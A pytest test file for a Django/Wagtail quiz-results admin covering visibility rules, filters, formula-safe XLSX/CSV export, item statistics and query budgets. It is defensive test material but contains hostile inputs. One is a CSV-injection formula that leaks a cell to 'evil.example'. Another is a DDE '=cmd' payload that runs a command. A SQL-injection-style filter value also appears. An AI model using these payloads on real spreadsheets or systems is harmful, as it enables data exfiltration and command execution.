"""Results of quizzes in the Wagtail admin: who sees which quizzes, the results listing
(columns, filters, search), formula-safe XLSX and CSV export, one attempt in detail,
item statistics (% correct, mean score, discrimination) and query budgets.

The helpers and fixtures here are shared with ``test_quiz_admin``.
"""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from wagtail.models import GroupPagePermission

from courses.models import AttemptStatus, QuestionKind, Quiz, QuizAttempt
from courses.selectors.quiz_results import (
    learner_name,
    learner_organisation,
    quiz_item_statistics,
    quizzes_visible_to,
    results_for,
)
from courses.services.quizzes import quiz_attempt_start, quiz_attempt_submit
from portal.accounts.models import Organisation, Profile
from portal.accounts.roles import GROUP_NAMES, Role
from tests.factories.pages import (
    CourseIndexPageFactory,
    CoursePageFactory,
    LessonPageFactory,
)
from tests.factories.quizzes import correct_form_data, make_quiz, single_choice_bank

RESULTS = "/admin/quiz-results/"
NASTY_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
]


# -- helpers shared with test_quiz_admin ----------------------------------------------


def make_learner(username, *, name=None, organisation=None, role=Role.CUSTOMER):
    user = get_user_model().objects.create_user(
        username=username, email=f"{username}@example.com", first_name=name or ""
    )
    Profile.objects.create(
        user=user, display_name=name or username, organisation=organisation
    )
    user.groups.add(Group.objects.get(name=GROUP_NAMES[role]))
    return user


def take(quiz, user, *, correct=True, page=None, data=None, now=None):
    """Start and submit an attempt: every question right, or left blank."""
    attempt = quiz_attempt_start(quiz=quiz, user=user, page=page, now=now)
    if data is None:
        data = correct_form_data(attempt) if correct else {}
    return quiz_attempt_submit(attempt=attempt, data=data, now=now)


def attach(page, quiz):
    """Attach ``quiz`` to a course or lesson page (the live row, as after publish)."""
    type(page).objects.filter(pk=page.pk).update(quiz=quiz)


@pytest.fixture
def tree(home_page):
    index = CourseIndexPageFactory(parent=home_page, title="测验课程目录")
    course_a = CoursePageFactory(parent=index, title="课程甲")
    course_b = CoursePageFactory(parent=index, title="课程乙")
    lesson_a = LessonPageFactory(parent=course_a, title="课程甲第一课")
    return {"course_a": course_a, "course_b": course_b, "lesson_a": lesson_a}


@pytest.fixture
def quizzes(tree):
    """Quiz A on a lesson of course A, quiz B on course B, quiz C attached nowhere."""
    quiz_a = make_quiz(title="甲课后测验", bank=single_choice_bank(2))
    quiz_b = make_quiz(title="乙结业考试", bank=single_choice_bank(2))
    quiz_c = make_quiz(title="未使用测验", bank=single_choice_bank(1))
    attach(tree["lesson_a"], quiz_a)
    attach(tree["course_b"], quiz_b)
    return {"a": quiz_a, "b": quiz_b, "c": quiz_c}


@pytest.fixture
def course_a_trainer(tree):
    """A trainer who can edit course A only: the 讲师 model permissions, page
    permissions below course A."""
    group = Group.objects.create(name="讲师（课程甲）")
    group.permissions.set(
        Group.objects.get(name=GROUP_NAMES[Role.TRAINER]).permissions.all()
    )
    for codename in ("add_page", "change_page"):
        GroupPagePermission.objects.create(
            group=group,
            page=tree["course_a"],
            permission=Permission.objects.get(
                content_type__app_label="wagtailcore", codename=codename
            ),
        )
    user = make_learner("trainer-a", name="甲老师", role=Role.TRAINER)
    user.groups.set([group])
    return user


@pytest.fixture
def organisation(db):
    return Organisation.objects.create(
        name="华东精密机械（测试）", kind=Organisation.Kind.CUSTOMER, code="T-QZ"
    )


@pytest.fixture
def results(quizzes, tree, organisation):
    """Learner 周 (organisation above) passes A; learner 吴 (no organisation) fails A
    and passes B."""
    zhou = make_learner("zhou", name="周建国", organisation=organisation)
    wu = make_learner("wu", name="吴丽")
    return {
        "zhou_a": take(quizzes["a"], zhou, page=tree["lesson_a"]),
        "wu_a": take(quizzes["a"], wu, correct=False, page=tree["lesson_a"]),
        "wu_b": take(quizzes["b"], wu, page=tree["course_b"]),
        "zhou": zhou,
        "wu": wu,
    }


def rows_of(response) -> str:
    assert response.status_code == 200
    return response.text


# -- visibility -----------------------------------------------------------------------


@pytest.mark.django_db
def test_training_admins_see_every_quiz_and_trainers_only_their_pages(
    quizzes, course_a_trainer, admin_user
):
    admin_group_member = make_learner("ta", role=Role.TRAINING_ADMIN)
    for user in (admin_user, admin_group_member):
        visible = set(quizzes_visible_to(user).values_list("pk", flat=True))
        assert {q.pk for q in quizzes.values()} <= visible
    visible = set(quizzes_visible_to(course_a_trainer).values_list("pk", flat=True))
    assert quizzes["a"].pk in visible
    assert quizzes["c"].pk in visible  # attached nowhere: the trainer may change it
    assert quizzes["b"].pk not in visible


@pytest.mark.django_db
def test_unattached_quizzes_need_the_change_permission(quizzes, course_a_trainer):
    group = course_a_trainer.groups.get()
    group.permissions.remove(
        *Permission.objects.filter(codename__in=["add_quiz", "change_quiz"])
    )
    user = get_user_model().objects.get(pk=course_a_trainer.pk)
    visible = set(quizzes_visible_to(user).values_list("pk", flat=True))
    assert visible == {quizzes["a"].pk}


@pytest.mark.django_db
def test_customers_and_staff_have_no_quiz_admin(client_for, customer, staff, results):
    attempt = results["wu_b"]
    urls = [
        RESULTS,
        f"{RESULTS}?export=csv",
        f"{RESULTS}inspect/{attempt.pk}/",
        reverse("quiz_results:statistics", args=[attempt.quiz_id]),
        reverse("quiz_results:regrade", args=[attempt.quiz_id]),
        reverse("quiz_results:grant", args=[attempt.pk]),
        reverse("quiz_grading:index"),
        reverse("quiz_grading:grade", args=[attempt.answers.first().pk]),
        reverse(Quiz.snippet_viewset.get_url_name("list")),
    ]
    for user in (customer, staff):
        client = client_for(user)
        for url in urls:
            response = client.get(url)
            assert response.status_code in (302, 403), (user, url)
            assert "吴丽" not in response.content.decode(), (user, url)
        response = client.post(
            reverse("quiz_results:regrade", args=[attempt.quiz_id]), {"reason": "x"}
        )
        assert response.status_code in (302, 403)
    assert not attempt.score_history.exists()


# -- the listing ----------------------------------------------------------------------


@pytest.mark.django_db
def test_listing_shows_every_column(client_for, admin_user, results, organisation):
    text = rows_of(client_for(admin_user).get(RESULTS, {"learner": "周建国"}))
    for expected in (
        "周建国",
        organisation.name,
        "甲课后测验",
        "课程甲第一课",
        "2 / 2",
        "100.0%",
        "优秀",
        "已评分",
    ):
        assert expected in text, expected
    assert "吴丽" not in text


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("params", "shown", "hidden"),
    [
        ({"quiz": "b"}, "吴丽", "周建国"),
        ({"page": "course_b"}, "吴丽", "周建国"),
        ({"learner": "吴"}, "吴丽", "周建国"),
        ({"learner": "zhou"}, "周建国", "吴丽"),
        ({"organisation": "org"}, "周建国", "吴丽"),
        ({"passed": "false"}, "吴丽", "周建国"),
        ({"quiz": "a", "passed": "true"}, "周建国", "吴丽"),
        ({"q": "zhou"}, "周建国", "吴丽"),
    ],
)
def test_filters(
    client_for, admin_user, results, quizzes, tree, organisation, params, shown, hidden
):
    values = {
        "a": quizzes["a"].pk,
        "b": quizzes["b"].pk,
        "course_b": tree["course_b"].pk,
        "org": organisation.pk,
    }
    query = {key: values.get(value, value) for key, value in params.items()}
    text = rows_of(client_for(admin_user).get(RESULTS, query))
    assert shown in text
    assert hidden not in text


@pytest.mark.django_db
def test_filter_by_date_range_and_status(client_for, admin_user, quizzes):
    learner = make_learner("li", name="李早")
    long_ago = timezone.now() - timedelta(days=40)
    take(quizzes["c"], learner, now=long_ago)
    recent = make_learner("sun", name="孙近")
    take(quizzes["c"], recent)
    in_progress = make_learner("qian", name="钱未交")
    quiz_attempt_start(quiz=quizzes["c"], user=in_progress)
    client = client_for(admin_user)
    start = (timezone.localdate() - timedelta(days=2)).isoformat()
    text = rows_of(
        client.get(RESULTS, {"quiz": quizzes["c"].pk, "submitted_at_from": start})
    )
    assert "孙近" in text
    assert "李早" not in text
    text = rows_of(
        client.get(RESULTS, {"quiz": quizzes["c"].pk, "status": "in_progress"})
    )
    assert "钱未交" in text
    assert "孙近" not in text


@pytest.mark.django_db
def test_trainer_lists_only_results_of_quizzes_on_their_pages(
    client_for, course_a_trainer, results, quizzes
):
    client = client_for(course_a_trainer)
    text = rows_of(client.get(RESULTS))
    assert "甲课后测验" in text
    assert "乙结业考试" not in text
    # Another trainer's quiz id in the filter is not a valid choice: nothing leaks.
    text = rows_of(client.get(RESULTS, {"quiz": quizzes["b"].pk}))
    assert "乙结业考试" not in text
    export = client.get(RESULTS, {"export": "csv", "quiz": quizzes["b"].pk})
    body = b"".join(export.streaming_content).decode()
    assert "乙结业考试" not in body
    assert "甲课后测验" in body


@pytest.mark.django_db
def test_filter_choices_offer_only_what_the_user_may_see(
    client_for, course_a_trainer, admin_user, results, quizzes, organisation
):
    other = Organisation.objects.create(
        name="乙方单位（测试）", kind=Organisation.Kind.CUSTOMER
    )
    take(quizzes["b"], make_learner("b-only", organisation=other))
    fields = client_for(course_a_trainer).get(RESULTS).context["filters"].form.fields
    assert set(fields["organisation"].queryset) == {organisation}
    assert quizzes["b"] not in set(fields["quiz"].queryset)
    assert {page.title for page in fields["page"].queryset} == {"课程甲第一课"}
    fields = client_for(admin_user).get(RESULTS).context["filters"].form.fields
    assert {organisation, other} <= set(fields["organisation"].queryset)


@pytest.mark.django_db
def test_a_filtered_quiz_links_to_its_statistics_and_regrade(
    client_for, course_a_trainer, results, quizzes
):
    text = rows_of(client_for(course_a_trainer).get(RESULTS, {"quiz": quizzes["a"].pk}))
    assert reverse("quiz_results:statistics", args=[quizzes["a"].pk]) in text
    assert reverse("quiz_results:regrade", args=[quizzes["a"].pk]) in text
    assert reverse("quiz_grading:index") in text
    assert "export=xlsx" in text


@pytest.mark.django_db
def test_malformed_filters_do_not_fail(client_for, admin_user, results):
    client = client_for(admin_user)
    for params in (
        {"quiz": "abc"},
        {"page": "-1"},
        {"submitted_at_from": "not-a-date"},
        {"passed": "maybe"},
        {"status": "'; drop table"},
        {"learner": "x" * 5000},
        {"ordering": "user__password"},
        {"p": "999"},
    ):
        assert client.get(RESULTS, params).status_code == 200, params


@pytest.mark.django_db
def test_learners_without_a_profile_are_listed_by_name(client_for, admin_user, quizzes):
    user = get_user_model().objects.create_user(
        username="no-profile", first_name="无档"
    )
    take(quizzes["c"], user)
    rows = results_for(admin_user).filter(user=user)
    assert [(learner_name(a.user), learner_organisation(a.user)) for a in rows] == [
        ("无档", "")
    ]
    text = rows_of(client_for(admin_user).get(RESULTS, {"q": "no-profile"}))
    assert "无档" in text


# -- one attempt --------------------------------------------------------------------


@pytest.mark.django_db
def test_attempt_detail_shows_every_answer_with_the_correct_one(
    client_for, admin_user, results
):
    attempt = results["wu_a"]
    text = rows_of(client_for(admin_user).get(f"{RESULTS}inspect/{attempt.pk}/"))
    assert "吴丽" in text
    assert "第1题：选择正确的说法" in text
    assert "第2题：选择正确的说法" in text
    assert "说法乙" in text  # the correct answer
    assert "未作答" in text  # the learner's (blank) answer
    assert "0 / 1" in text
    assert "还没有补考授权" in text


@pytest.mark.django_db
def test_trainer_cannot_open_attempts_of_other_quizzes(
    client_for, course_a_trainer, results
):
    client = client_for(course_a_trainer)
    assert client.get(f"{RESULTS}inspect/{results['zhou_a'].pk}/").status_code == 200
    assert client.get(f"{RESULTS}inspect/{results['wu_b'].pk}/").status_code == 404
    assert client.get(f"{RESULTS}inspect/999999/").status_code == 404


# -- export -------------------------------------------------------------------------


@pytest.fixture
def nasty_results(quizzes, organisation):
    """Attempts by learners whose names a spreadsheet would run as formulas."""
    evil_org = Organisation.objects.create(
        name="=cmd|'/c calc'!A1", kind=Organisation.Kind.CUSTOMER
    )
    attempts = []
    for number, name in enumerate(NASTY_NAMES):
        learner = make_learner(f"nasty{number}", name=name, organisation=evil_org)
        attempts.append(take(quizzes["c"], learner))
    return attempts


@pytest.mark.django_db
def test_xlsx_export_keeps_formula_like_names_as_text(
    client_for, admin_user, nasty_results, quizzes
):
    response = client_for(admin_user).get(
        RESULTS, {"export": "xlsx", "quiz": quizzes["c"].pk}
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    assert header[:4] == ["学员", "用户名", "所属组织", "测验"]
    learner_cells = [row[0] for row in rows[1:]]
    assert sorted(cell.value for cell in learner_cells) == sorted(NASTY_NAMES)
    for row in rows[1:]:
        for cell in row[:4]:
            assert cell.data_type == "s", (cell.value, cell.data_type)
        assert row[2].value == "=cmd|'/c calc'!A1"
        score_cell = row[header.index("得分")]
        assert score_cell.data_type == "n"
        assert Decimal(str(score_cell.value)) == Decimal("1")
    # No cell anywhere in the sheet is a formula.
    assert all(cell.data_type != "f" for row in rows for cell in row)


@pytest.mark.django_db
def test_csv_export_neutralises_formula_triggers(
    client_for, admin_user, nasty_results, quizzes
):
    response = client_for(admin_user).get(
        RESULTS, {"export": "csv", "quiz": quizzes["c"].pk}
    )
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0][:4] == ["学员", "用户名", "所属组织", "测验"]
    names = sorted(row[0] for row in rows[1:])
    assert names == sorted("'" + name for name in NASTY_NAMES)
    for row in rows[1:]:
        assert row[2] == "'=cmd|'/c calc'!A1"
        assert not any(value.startswith(("=", "+", "-", "@")) for value in row), row


@pytest.mark.django_db
def test_export_of_control_characters_does_not_fail(client_for, admin_user, quizzes):
    take(quizzes["c"], make_learner("ctrl", name="王\x07五\x1b"))
    response = client_for(admin_user).get(
        RESULTS, {"export": "xlsx", "quiz": quizzes["c"].pk}
    )
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(
        io.BytesIO(b"".join(response.streaming_content))
    ).active
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == ["王五"]


# -- item statistics --------------------------------------------------------------


@pytest.fixture
def graded_cohort(db):
    """Six graded attempts at a 4-question quiz (one point each):

    ======  ==  ==  ==  ==  =====
    learner q1  q2  q3  q4  %
    ======  ==  ==  ==  ==  =====
    1       ✓   ✓   ✗   ✓   75
    2       ✓   ✓   ✗   ✓   75    <- top third: 1, 2
    3       ✓   ✓   ✗   ✗   50
    4       ✓   ✗   ✓   ✗   50
    5       ✗   ✗   ✓   ✗   25
    6       ✗   ✗   ✓   ✗   25    <- bottom third: 5, 6
    ======  ==  ==  ==  ==  =====

    q3 is answered right only by the weakest learners: a suspect question.
    """
    quiz = make_quiz(title="统计测验", bank=single_choice_bank(4))
    patterns = [
        (True, True, False, True),
        (True, True, False, True),
        (True, True, False, False),
        (True, False, True, False),
        (False, False, True, False),
        (False, False, True, False),
    ]
    for number, pattern in enumerate(patterns):
        learner = make_learner(f"cohort{number}")
        attempt = quiz_attempt_start(quiz=quiz, user=learner)
        right = correct_form_data(attempt)
        data = {
            f"a{answer.position}": right[f"a{answer.position}"]
            for answer, ok in zip(
                attempt.answers.order_by("position"), pattern, strict=True
            )
            if ok
        }
        quiz_attempt_submit(attempt=attempt, data=data)
    # An attempt still in progress counts nowhere.
    quiz_attempt_start(quiz=quiz, user=make_learner("cohort-open"))
    return quiz


@pytest.mark.django_db
def test_item_statistics_percent_correct_mean_and_discrimination(graded_cohort):
    stats = quiz_item_statistics(quiz=graded_cohort)
    assert stats.closed_attempts == 6
    assert stats.graded_attempts == 6
    assert stats.group_size == 2
    q1, q2, q3, q4 = stats.items
    assert (q1.drawn, q1.answered, q1.graded, q1.correct) == (6, 4, 6, 4)
    assert q1.percent_correct == Decimal("66.7")
    assert q1.mean_score == Decimal("0.67")
    assert q1.discrimination == Decimal("1.00")
    assert (q2.percent_correct, q2.discrimination) == (Decimal("50.0"), Decimal("1.00"))
    assert (q3.percent_correct, q3.discrimination) == (
        Decimal("50.0"),
        Decimal("-1.00"),
    )
    assert q3.discrimination_label == "较差，建议修改"
    assert (q4.percent_correct, q4.discrimination) == (Decimal("33.3"), Decimal("1.00"))
    assert q4.discrimination_label == "很好"


@pytest.mark.django_db
def test_item_statistics_without_enough_attempts(quizzes):
    take(quizzes["c"], make_learner("only-one"))
    stats = quiz_item_statistics(quiz=quizzes["c"])
    assert stats.group_size == 0
    assert stats.items[0].discrimination is None
    assert stats.items[0].percent_correct == Decimal("100.0")


@pytest.mark.django_db
def test_item_statistics_page(client_for, admin_user, graded_cohort, course_a_trainer):
    url = reverse("quiz_results:statistics", args=[graded_cohort.pk])
    text = rows_of(client_for(admin_user).get(url))
    assert "题目统计" in text
    assert "<svg" in text and 'width="66.7"' in text
    assert "-1.00" in text and "较差，建议修改" in text
    # Unattached quiz: the course-A trainer may see it (they can change quizzes).
    assert client_for(course_a_trainer).get(url).status_code == 200


@pytest.mark.django_db
def test_item_statistics_of_another_trainers_quiz_is_404(
    client_for, course_a_trainer, quizzes
):
    client = client_for(course_a_trainer)
    assert (
        client.get(
            reverse("quiz_results:statistics", args=[quizzes["b"].pk])
        ).status_code
        == 404
    )
    assert (
        client.get(
            reverse("quiz_results:statistics", args=[quizzes["a"].pk])
        ).status_code
        == 200
    )


# -- query budgets --------------------------------------------------------------------

LISTING_BUDGET = 20
STATISTICS_BUDGET = 15
DETAIL_BUDGET = 15


def _queries(client, url, params=None) -> int:
    client.get(url, params)  # warm per-process caches (content types, site)
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url, params)
    assert response.status_code == 200
    return len(captured.captured_queries)


@pytest.mark.django_db
def test_results_listing_queries_do_not_grow_with_attempts(
    client_for, admin_user, tree, organisation, django_assert_max_num_queries
):
    client = client_for(admin_user)
    counts = []
    for size in (3, 30):
        quiz = make_quiz(title=f"预算测验{size}", bank=single_choice_bank(2))
        for number in range(size):
            learner = make_learner(
                f"budget{size}-{number}",
                organisation=organisation if number % 2 else None,
            )
            take(quiz, learner, correct=bool(number % 3), page=tree["lesson_a"])
        params = {"quiz": quiz.pk}
        counts.append(_queries(client, RESULTS, params))
        with django_assert_max_num_queries(LISTING_BUDGET):
            client.get(RESULTS, params)
        with django_assert_max_num_queries(LISTING_BUDGET):
            response = client.get(RESULTS, {**params, "export": "xlsx"})
            b"".join(response.streaming_content)
    assert counts[0] == counts[1], counts


@pytest.mark.django_db
def test_trainer_listing_queries_do_not_grow(
    client_for, course_a_trainer, quizzes, tree
):
    client = client_for(course_a_trainer)
    counts = []
    for size in (2, 20):
        for number in range(size):
            take(
                quizzes["a"], make_learner(f"tb{size}-{number}"), page=tree["lesson_a"]
            )
        counts.append(_queries(client, RESULTS))
    assert counts[0] == counts[1], counts
    assert counts[0] <= LISTING_BUDGET


@pytest.mark.django_db
def test_item_statistics_queries_do_not_grow(
    client_for, admin_user, django_assert_max_num_queries
):
    client = client_for(admin_user)
    counts = []
    for questions, learners in ((3, 3), (25, 12)):
        quiz = make_quiz(
            title=f"统计预算{questions}", bank=single_choice_bank(questions)
        )
        for number in range(learners):
            take(
                quiz, make_learner(f"sb{questions}-{number}"), correct=bool(number % 2)
            )
        url = reverse("quiz_results:statistics", args=[quiz.pk])
        counts.append(_queries(client, url))
        with django_assert_max_num_queries(STATISTICS_BUDGET):
            client.get(url)
        with CaptureQueriesContext(connection) as captured:
            quiz_item_statistics(quiz=quiz)
        assert len(captured.captured_queries) == 3
    assert counts[0] == counts[1], counts


@pytest.mark.django_db
def test_attempt_detail_queries_do_not_grow(client_for, admin_user):
    client = client_for(admin_user)
    counts = []
    for questions in (2, 30):
        quiz = make_quiz(
            title=f"详情预算{questions}", bank=single_choice_bank(questions)
        )
        attempt = take(quiz, make_learner(f"db{questions}"))
        counts.append(_queries(client, f"{RESULTS}inspect/{attempt.pk}/"))
    assert counts[0] == counts[1], counts
    assert counts[0] <= DETAIL_BUDGET


@pytest.mark.django_db
def test_statuses_listed_with_pending_review(client_for, admin_user):
    quiz = make_quiz(
        title="简答测验",
        bank=[(QuestionKind.SHORT_ANSWER, "请简述保养步骤。", [], "", "5")],
    )
    attempt = take(quiz, make_learner("pending", name="郑待评"))
    assert attempt.status == AttemptStatus.PENDING_REVIEW
    text = rows_of(client_for(admin_user).get(RESULTS, {"quiz": quiz.pk}))
    assert "郑待评" in text and "待评分" in text
    assert QuizAttempt.objects.filter(quiz=quiz).count() == 1
